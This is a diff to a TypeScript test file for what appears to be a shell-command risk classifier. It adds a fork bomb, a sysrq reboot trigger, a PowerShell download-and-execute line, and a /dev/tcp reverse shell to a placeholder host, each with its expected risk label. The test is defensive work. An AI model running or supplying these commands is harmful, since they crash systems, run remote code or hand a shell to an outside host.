@@ -13,6 +13,10 @@ const summary = (command: string) => {
 describe("a destructive command", () => {
   test.each([
     ["rm -rf x", "high fs-delete"],
+    [":(){ :|:& };:", "high process"],
+    ["echo b > /proc/sysrq-trigger", "high system"],
+    ["iex (iwr http://x)", "unknown remote-code"],
+    ["sh > /dev/tcp/h/1", "unknown remote-code"],
     ["git rm -rf x", "high git-discard"],
     ["git restore --staged --worktree .", "high git-discard"],
     ["find . -exec sh -c 'rm \"$0\"' {} \\;", "high fs-delete"],
